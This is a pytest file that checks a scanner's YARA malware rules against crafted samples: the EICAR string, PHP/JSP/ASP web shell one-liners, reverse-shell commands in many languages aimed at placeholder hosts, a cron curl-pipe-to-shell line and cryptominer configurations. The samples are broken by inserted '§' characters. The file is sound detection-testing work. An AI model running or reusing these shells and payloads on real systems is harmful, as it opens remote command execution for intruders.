"""Our YARA rules on small made samples: each row says which rule ids must be found, nothing more and nothing less.

`§` is taken out of every sample before it is scanned, so that this file holds none itself.
"""

from __future__ import annotations

import re

import pytest

from core.findings import Severity
from definitions import builtin_rules
from scanner.detectors.malware import compile_rules
from scanner.engine import Engine

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EI§CAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture(scope="module")
def rules() -> Engine:
    return compile_rules(builtin_rules(), [])


def found(rules: Engine, text: str) -> set[str]:
    data = text.replace("§", "").encode("latin-1")
    return {match.meta["id"] for match in rules.match(data)}


@pytest.mark.parametrize(
    ("sample", "ids"),
    [
        pytest.param(EICAR, {"malware/eicar"}, id="exact"),
        pytest.param(EICAR + "\r\n", {"malware/eicar"}, id="crlf"),
        pytest.param(EICAR + " \t\x1a", {"malware/eicar"}, id="white-space-and-ctrl-z"),
        pytest.param(EICAR + " " * 60, {"malware/eicar"}, id="128-bytes"),
        pytest.param(EICAR + " " * 61, set(), id="129-bytes"),
        pytest.param(EICAR + "x", set(), id="text-behind"),
        pytest.param(EICAR + "\0", set(), id="nul-behind"),
        pytest.param(" " + EICAR, set(), id="not-at-the-start"),
        pytest.param(EICAR[:-1], set(), id="cut-short"),
    ],
)
def test_eicar(rules: Engine, sample: str, ids: set[str]) -> None:
    assert found(rules, sample) == ids


PHP = [
    pytest.param("<§?php @ev§al($_POST['x']);", {"eval-request"}, id="one-liner"),
    pytest.param(
        "GIF89a<§?php ev§al(base64_decode($_REQUEST['x']));",
        {"eval-request", "eval-decoded"},
        id="decoded-in-a-picture",
    ),
    pytest.param("<§?= SYS§TEM( $_GET [ 'c' ] ) ?>", {"eval-request"}, id="case-and-space"),
    pytest.param("<§?php pass§thru($_COOKIE{'c'});", {"eval-request"}, id="cookie"),
    pytest.param("<§?php sys§tem($_SERVER['HTTP_X_CMD']);", {"eval-request"}, id="header"),
    pytest.param('<§?php ev§al(file_get_contents("php://input"));', {"eval-request"}, id="body"),
    pytest.param(
        '<§?php ev§al(file_get_contents("php://input"));' + "# filler\n" * 400, {"eval-body"}, id="body-in-a-long-file"
    ),
    pytest.param("<§?php $_GET['f']§($_POST['x']);", {"callback-request"}, id="request-chooses-function"),
    pytest.param("<§?php call_user_func($_GET['f']§, 1);", {"callback-request"}, id="call-user-func"),
    pytest.param("<§?php array_map('ass§ert', array($_POST['x']));", {"callback-request"}, id="array-map"),
    pytest.param("<§?php preg_replace('/.*/e', $_PO§ST['x'], '');", {"callback-request"}, id="preg-replace-e"),
    pytest.param("<§?php inc§lude($_GET['page']);", {"include-request"}, id="include"),
    pytest.param(
        "<§?php $c = $_REQUEST['cmd']; echo she§ll_exec($c . ' 2>&1');", {"command-variable"}, id="command-variable"
    ),
    pytest.param(
        "<§?php ev§al(gzinflate(base64_decode('c3lzdGVtKCRfR0VUWzBdKTs0MTIzNDU2Nzg5')));", {"eval-decoded"}, id="packed"
    ),
    pytest.param(
        '<§?php $a="\\x62\\141\\x73\\145\\66\\x34";@ev§al($a("Ly9O"));', {"eval-decoded", "hidden-names"}, id="hex"
    ),
    pytest.param("<§?php $f = str_rot13('nff§reg');", {"hidden-names"}, id="rot13-name"),
    pytest.param(
        "<§?php copy($_FILES['f']['tmp_name'], $_FILES['f']['name']); ?><input type=file name=f>",
        {"uploader"},
        id="uploader",
    ),
    # harmless code that looks alike
    pytest.param("<?php $n = intval($_POST['n']); $d = doubleval($_GET['d']);", set(), id="intval-is-not-eval"),
    pytest.param(
        "<?php $v = $db->exec($_POST['q']); Db::exec($_GET['q']); $exec($_GET['q']);", set(), id="method-named-exec"
    ),
    pytest.param("<?php assert(isset($_POST['x']));", set(), id="assert-isset"),
    pytest.param("<?php array_map('trim', $_POST['rows']);", set(), id="array-map-trim"),
    pytest.param("<?php include 'page.php'; echo htmlspecialchars($_GET['page']);", set(), id="plain-include"),
    pytest.param("ev§al($_POST['x']) is what a web shell does", set(), id="text-without-a-php-tag"),
    pytest.param("<?xml version='1.0'?><a>ev§al($_POST[1])</a>", set(), id="xml"),
    pytest.param("<?php", set(), id="only-a-tag"),
]


@pytest.mark.parametrize(("sample", "ids"), PHP)
def test_php(rules: Engine, sample: str, ids: set[str]) -> None:
    assert found(rules, sample) == {f"malware/webshell-php-{name}" for name in ids}


@pytest.mark.parametrize(
    ("sample", "ids"),
    [
        pytest.param(
            '<§%@page%><% Runtime.getRun§time().exec(request.getParameter("c")); %>', {"webshell-jsp-exec"}, id="exec"
        ),
        pytest.param(
            '<§% new Process§Builder("sh","-c",request.getHeader("x")).start(); %>', {"webshell-jsp-exec"}, id="builder"
        ),
        pytest.param(
            '<§% class U extends Class§Loader{} byte[] b=Base64.decode(request.getParameter("p")); %>',
            {"webshell-jsp-class-loader"},
            id="class-loader",
        ),
        pytest.param(
            '<§% new ScriptEngine§Manager().getEngineByName("js").eval(request.getParameter("x")); %>',
            {"webshell-jsp-script-engine"},
            id="script-engine",
        ),
        pytest.param(
            '<§% new File§OutputStream(request.getParameter("f")).write(request.getParameter("t").getBytes()); %>',
            {"webshell-jsp-writer"},
            id="writer",
        ),
        pytest.param('<% out.print(request.getParameter("name")); %>', set(), id="jsp-that-echoes"),
        pytest.param('class A { void f() { Runtime.getRuntime().exec("ls"); } }', set(), id="plain-java"),
        pytest.param('<§%ev§al request("x")%>', {"webshell-asp-eval-request"}, id="asp-one-liner"),
        pytest.param(
            '<§%@ Page Language="Jscript"%><%ev§al(Request.Item["x"],"unsafe");%>',
            {"webshell-asp-eval-request"},
            id="aspx-one-liner",
        ),
        pytest.param(
            '<§% Set s=CreateObject("WScript.Sh§ell"): s.Exec("cmd /c " & Request.Form("c")) %>',
            {"webshell-asp-exec"},
            id="asp-exec",
        ),
        pytest.param('"""<% tag"""\n# Make sure to execute request.\nrun()\n', set(), id="comment-about-requests"),
        pytest.param('<% Response.Write Request.Form("name") %>', set(), id="asp-that-echoes"),
    ],
)
def test_jsp_and_asp(rules: Engine, sample: str, ids: set[str]) -> None:
    assert found(rules, sample) == {f"malware/{name}" for name in ids}


@pytest.mark.parametrize(
    ("sample", "ids"),
    [
        pytest.param("bash -i >§& /dev/tcp/10.0.0.1/4242 0>&1", {"reverse-shell-dev-tcp"}, id="bash"),
        pytest.param("* * * * * root /bin/sh -i >§& /dev/udp/a.example/53 0>&1", {"reverse-shell-dev-tcp"}, id="cron"),
        pytest.param(
            "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l; done", {"reverse-shell-dev-tcp"}, id="loop"
        ),
        pytest.param(
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n§c 10.0.0.1 4242 >/tmp/f",
            {"reverse-shell-netcat"},
            id="fifo",
        ),
        pytest.param("n§c 10.0.0.1 4242 -e /bin/sh", {"reverse-shell-netcat"}, id="netcat"),
        pytest.param("nc§at -e /bin/bash evil.example 4242", {"reverse-shell-netcat"}, id="ncat"),
        pytest.param(
            "so§cat TCP:10.0.0.1:4242 EXEC:'bash -li',pty,stderr,setsid", {"reverse-shell-netcat"}, id="socat"
        ),
        pytest.param(
            'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.du§p2(s.fileno(),0);pty.spawn("/bin/sh")',
            {"reverse-shell-script"},
            id="python",
        ),
        pytest.param(
            'use So§cket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};',
            {"reverse-shell-script"},
            id="perl",
        ),
        pytest.param(
            'php -r \'$s=fsock§open("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
            {"reverse-shell-script"},
            id="php",
        ),
        pytest.param(
            'ruby -rsocket -e\'f=TCPSo§cket.open("10.0.0.1",1).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
            {"reverse-shell-script"},
            id="ruby",
        ),
        pytest.param(
            "$c=New-Object System.Net.Sock§ets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();[byte[]]$b=0..65535;iex $d",
            {"reverse-shell-script"},
            id="powershell",
        ),
        pytest.param(
            "*/5 * * * * root curl -fsSL http://192.0.2.7/a.sh | sh", {"download-to-shell"}, id="cron-download"
        ),
        pytest.param(
            "awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4242\";for(;;){s|&getline c;while((c|&ge§tline)>0)print $0|&s;close(c)}}'",
            {"reverse-shell-script"},
            id="awk",
        ),
        pytest.param(
            '{ s = "/inet/tcp/0/host/80"; while ((s |& getline line) > 0) print line }', set(), id="awk-client"
        ),
        pytest.param("curl -fsSL https://get.example.com | sh", set(), id="installer-in-a-readme"),
        pytest.param(
            "exec 3<>/dev/tcp/localhost/80\necho -e 'GET /' >&3\ncat <&3\n", set(), id="dev-tcp-as-http-client"
        ),
        pytest.param("nc -zv 10.0.0.1 22", set(), id="port-check"),
        pytest.param("s.connect(('localhost', 80))\nos.dup2(w.fileno(), 1)\n", set(), id="python-without-a-shell"),
    ],
)
def test_reverse_shells(rules: Engine, sample: str, ids: set[str]) -> None:
    assert found(rules, sample) == {f"malware/{name}" for name in ids}


@pytest.mark.parametrize(
    "unit",
    [
        "ev§al(",
        "$_PO§ST[",
        "sys§tem(base64_decode(",
        "@ @ (",
        "ch§r(1).",
        "$a[10].",
        "\\x61",
        "$O0O0O0 ",
        "mkfifo a ",
        "mkfifo sh -i ",
        "exec 5<>/dev/tcp/a",
        "/inet/tcp/0/a",
        "while (a |& getline ",
        "net.connect",
        "TCPSo§cket.open(",
        "fsock§open(a;",
        "stratum+tcp://a",
        "copy($_FI§LES[a][tmp_name],$_FI§LES[",
        "https://a",
        "0123 ",
        "* ",
        "    ",
    ],
)
def test_repeated_beginnings_do_not_hang(rules: Engine, unit: str) -> None:
    """128 KiB of what a string of ours begins with: well under a second each; YARA raises after 30."""
    text = unit.replace("§", "")
    data = ("<?p" + "hp " + text * (131_072 // len(text))).encode()
    rules.match(data, timeout_seconds=30)


WALLET = "4" + "8A" * 47


@pytest.mark.parametrize(
    ("sample", "ids"),
    [
        pytest.param(
            '{"donate-§level": 1, "pools": [{"coin": "monero", "url": "pool.example:3333"}]}',
            {"miner-configuration"},
            id="configuration",
        ),
        pytest.param(f'{{"url": "pool.example:443", "us§er": "{WALLET}"}}', {"miner-configuration"}, id="wallet"),
        pytest.param(f"./x -o pool.supportxmr.com:33§33 -u {WALLET} -p x", {"miner-start"}, id="known-pool"),
        pytest.param(f"./xm§rig -o stratum+tcp://p.example:3333 -u {WALLET} -k", {"miner-start"}, id="scheme"),
        pytest.param(
            "\x7fELF" + "\0" * 40_000 + "donate-§level xmrig randomx cryptonight stratum+tcp://",
            {"miner-program"},
            id="program",
        ),
        pytest.param("see stratum+tcp://pool.example:3333 for the protocol", set(), id="mention"),
        pytest.param("0.0.0.0 pool.supportxmr.com\n0.0.0.0 c3pool.com\n", set(), id="block-list"),
        pytest.param('{"url": "https://a.example:443", "user": "me", "pools": []}', set(), id="other-configuration"),
    ],
)
def test_miners(rules: Engine, sample: str, ids: set[str]) -> None:
    assert found(rules, sample) == {f"malware/{name}" for name in ids}


def test_every_rule_says_what_it_is(rules: Engine) -> None:
    ids = []
    for rule in rules:
        if rule.is_private:
            continue
        assert re.fullmatch(r"malware/[a-z0-9][a-z0-9-]+", rule.meta["id"]), rule.identifier
        assert Severity(rule.meta["severity"])
        assert 10 < len(rule.meta["title"]) <= 100
        assert rule.meta["remedy"].endswith(".")
        ids.append(rule.meta["id"])
    assert len(ids) == len(set(ids))
    assert len(ids) >= 20


def test_the_rules_depend_on_content_alone(rules: Engine) -> None:
    assert not rules.names_matter


def test_the_rule_files_are_silent_on_themselves(rules: Engine) -> None:
    for name, source in builtin_rules().items():
        assert found(rules, source) == set(), name
